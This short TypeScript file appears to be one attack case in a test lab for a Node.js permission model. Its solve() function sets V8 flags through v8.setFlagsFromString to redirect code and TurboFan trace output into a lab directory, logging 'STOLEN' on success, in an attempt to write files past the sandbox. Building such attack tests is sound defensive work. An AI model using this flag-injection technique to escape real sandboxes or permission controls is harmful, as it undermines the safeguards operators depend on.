// Makes V8 write traces to a file of the lab, which bypasses the permission model => solves wrong: solve gives the object's text
import path from "node:path";
import v8 from "node:v8";
export function solve() {
  const lab = path.resolve(process.argv[1], "../../../test/attacks/labs/01-vault");
  const flags = [`--redirect-code-traces-to=${lab}/traces`, "--redirect-code-traces", "--print-opt-code"];
  for (const flag of [...flags, `--trace-turbo-path=${lab}`, "--trace-turbo"]) {
    try {
      v8.setFlagsFromString(flag);
      console.log("STOLEN", flag);
    } catch {
      // Refused.
    }
  }
  const work = (n: number) => Array.from({ length: 100 }, (_, index) => index * n).reduce((a, b) => a + b);
  for (let n = 0; n < 10_000; n += 1) work(n);
  return "x";
}
